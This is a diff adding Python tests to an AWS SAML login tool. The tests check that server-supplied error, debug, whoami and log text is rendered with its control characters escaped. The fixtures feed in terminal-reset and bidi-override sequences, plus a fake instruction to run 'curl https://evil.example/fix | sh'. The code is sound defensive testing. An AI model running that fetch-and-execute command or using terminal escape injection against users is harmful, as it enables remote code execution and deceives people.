@@ -2828,6 +2828,171 @@ class CommandsTest(LoginTestCase):
                          "https://signin.amazonaws.cn/federation")
 
 
+# Characters that must never reach a terminal or a log raw (C0, DEL, C1, line
+# and paragraph separators, bidi embeddings, overrides and isolates).
+RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+# What a hostile server says: reset the terminal, then a line of its own.
+HOSTILE = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+           "\x9b2J\u2028\u202etxt.exe\u2066\t")
+# The same in an HTTP header (Latin-1, a folded line keeps its CR LF).
+HOSTILE_HEADER = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+                  "\x9b2J\x85\x7f\t(end)")
+# The same in XML, which cannot carry ESC or a bare CR: CSI, NEL and a newline.
+HOSTILE_XML = ("\x9b2J\x85\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+               "\u2028\u202etxt.exe\u2066\t(end)")
+
+
+class ServerTextTest(LoginTestCase):
+    """Text from a server (IdP, STS) reaches the terminal and the logs with every
+    control character escaped, and an error stays one line."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def assert_inert_lines(self, text, starts=("aws_login: ",)):
+        self.assertTrue(text.endswith("\n"), ascii(text))
+        for line in text[:-1].split("\n"):
+            self.assertIsNone(RAW_CONTROL.search(line), ascii(text))
+            self.assertTrue(line.startswith(starts), ascii(text))
+
+    def assert_one_inert_error(self, run, code, hostile):
+        self.assertEqual(run.code, code, run)
+        self.assertEqual(run.stdout, "")
+        self.assertEqual(run.stderr.count("\n"), 1, ascii(run.stderr))
+        self.assert_inert_lines(run.stderr, ("aws_login: error: ",))
+        # rendered visibly, not dropped: the user sees what the server sent
+        self.assertIn(aws_login.visible(hostile), run.stderr)
+
+    def test_visible_escapes_exactly_the_control_characters(self):
+        escaped = "\x00\x09\x0a\x0d\x1b\x1f\x7f\x80\x85\x9b\x9f\u2028\u2029\u202a\u202e\u2066\u2069"
+        self.assertEqual(aws_login.visible(escaped),
+                         "\\x00\\t\\n\\r\\x1b\\x1f\\x7f\\x80\\x85\\x9b\\x9f\\u2028\\u2029"
+                         "\\u202a\\u202e\\u2066\\u2069")
+        kept = " !~\xa0\xe9\u2019\u2027\u202f\u2065\u206a\u4e2d"
+        self.assertEqual(aws_login.visible(kept), kept)
+        self.assertEqual(aws_login.visible(aws_login.IdPError("a\nb")), "a\\nb")
+
+    def test_idp_redirect_location_with_escapes(self):
+        self.idp.override = (302, {"Location": HOSTILE_HEADER}, b"")
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 5, HOSTILE_HEADER)
+        self.assertIn("redirected to", run.stderr)
+
+    def test_soap_fault_string_with_escapes(self):
+        self.idp.override = soap_fault("Authentication failed" + HOSTILE_XML)
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 4, HOSTILE_XML)
+        self.assertIn("Authentication failed", run.stderr)
+
+    def test_sts_error_message_with_escapes(self):
+        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 7, HOSTILE_XML)
+        self.assertIn("AccessDenied: Not authorized", run.stderr)
+
+    def test_debug_traceback_and_debug_lines_are_escaped(self):
+        self.sts.queue.append(sts_error("Throttling", "Slow down" + HOSTILE_XML))  # debug line
+        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
+        run = self.tool(["--debug", "login"], terminal=False)
+        self.assertEqual(run.code, 7, run)
+        self.assertIn("aws_login: debug: STS: STS refused AssumeRoleWithSAML: Throttling: "
+                      "Slow down" + aws_login.visible(HOSTILE_XML), run.stderr)
+        self.assertIn("Traceback", run.stderr)
+        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
+        last = run.stderr.rstrip("\n").split("\n")
+        self.assertTrue(last[-1].startswith("aws_login: error: STS refused"), ascii(last[-1]))
+        self.assertRegex(last[-2], r"^(aws_login\.)?STSError: STS refused")
+
+    def test_debug_traceback_of_a_broken_status_line(self):
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        self.addCleanup(server.close)
+
+        def answer():
+            client = server.accept()[0]
+            client.recv(65536)
+            client.sendall(HOSTILE_HEADER.encode("latin-1") + b"\r\n\r\n")
+            client.close()
+        thread = threading.Thread(target=answer)
+        thread.daemon = True
+        thread.start()
+        self.configure(username="alice", factor="auto", password=PASSWORD,
+                       ecp_endpoint_url="http://127.0.0.1:%d/ecp" % server.getsockname()[1])
+        run = self.tool(["--debug", "login"], terminal=False)
+        self.assertEqual(run.code, 8, run)
+        # the exception it was raised from, with the server's line, escaped
+        self.assertIn("BadStatusLine: \\x1bc\\r", run.stderr)
+        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
+
+    def test_warning_with_a_refused_keyring_password(self):
+        keyring = FakeKeyring(self.home)
+        self.configure(username="alice", factor="auto", password=None, enable_keyring="true")
+        keyring.set(aws_login.keyring_user(aws_login.Profile(
+            "default", {"ecp_endpoint_url": self.idp.url}), "alice"), "stale")
+        faults = [soap_fault("Bad password" + HOSTILE_XML)]
+        self.idp.override = lambda handler: faults.pop() if faults else None
+        run = self.tool(["login"], [("Password: ", PASSWORD)], env=keyring.env())
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("aws_login: warning: the IdP refused the password stored in the "
+                      "keyring (the IdP refused the login: Bad password"
+                      + aws_login.visible(HOSTILE_XML), run.stderr)
+        self.assert_inert_lines(run.stderr, ("aws_login: ", "Logged in as"))
+
+    def test_whoami_prints_the_identity_escaped(self):
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        body = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
+                '<Arn>arn:aws:sts::%s:assumed-role/Admin/alice%s</Arn><UserId>AROA:x</UserId>'
+                '<Account>%s</Account></GetCallerIdentityResult></GetCallerIdentityResponse>'
+                % (NS_STS, ACCOUNT_A, _text(HOSTILE_XML), ACCOUNT_A))
+        self.sts.queue.append((200, {"Content-Type": "text/xml"}, body.encode("utf-8")))
+        run = self.tool(["whoami"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(run.stdout.count("\n"), 3, ascii(run.stdout))
+        self.assertIsNone(RAW_CONTROL.search(run.stdout.replace("\n", "")), ascii(run.stdout))
+        self.assertIn("alice" + aws_login.visible(HOSTILE_XML), run.stdout)
+
+    def test_warn_debug_and_terminal_lines_are_escaped(self):
+        saved, aws_login.sys.stderr = aws_login.sys.stderr, io.StringIO()
+        saved_debug, aws_login._debug_enabled = aws_login._debug_enabled, True
+        try:
+            aws_login.warn("a" + HOSTILE)
+            aws_login.debug("b" + HOSTILE)
+            out = aws_login.sys.stderr.getvalue()
+        finally:
+            aws_login.sys.stderr, aws_login._debug_enabled = saved, saved_debug
+        self.assertEqual(out, "aws_login: warning: a%s\naws_login: debug: b%s\n" % (
+            aws_login.visible(HOSTILE), aws_login.visible(HOSTILE)))
+        master, slave = os.openpty()
+        self.addCleanup(os.close, master)
+        self.addCleanup(os.close, slave)
+        terminal = aws_login.Terminal(os.ttyname(slave))
+        self.addCleanup(terminal.close)
+        self.assertTrue(terminal.available())
+        terminal.tell("c" + HOSTILE)
+        shown = b""
+        while not shown.endswith(b"\n"):
+            self.assertTrue(select.select([master], [], [], 10)[0], shown)
+            shown += os.read(master, 4096)
+        self.assertEqual(shown.decode("utf-8"), "c%s\r\n" % aws_login.visible(HOSTILE))
+
+    def test_refresher_log_lines_are_escaped(self):
+        log = os.path.join(self.home, "refresher.log")
+        aws_login.private_dir(os.path.join(self.home, ".aws-login"))
+        aws_login.private_dir(os.path.join(self.home, ".aws-login", "run"))
+        code = ("import os, sys; sys.path.insert(0, %r); import aws_login; "
+                "fd = os.open(aws_login.pid_path('default'), os.O_RDWR | os.O_CREAT, 0o600); "
+                "aws_login._refresher_loop('default', sys.argv[1], 0, 1e10, fd)" % HERE)
+        with open(log, "wb") as f:
+            subprocess.check_call([sys.executable, "-c", code, ADMIN + HOSTILE],
+                                  stderr=f, timeout=30)
+        text = self.read(log)
+        self.assertIn("started for role %s%s" % (ADMIN, aws_login.visible(HOSTILE)), text)
+        self.assertIn("was logged out; stopping", text)
+        self.assert_inert_lines(text, (time.strftime("%Y-"),))
+
+
 class ChainingTest(LoginTestCase):
     TARGET = "arn:aws:iam::%s:role/Deploy" % ACCOUNT_B
 
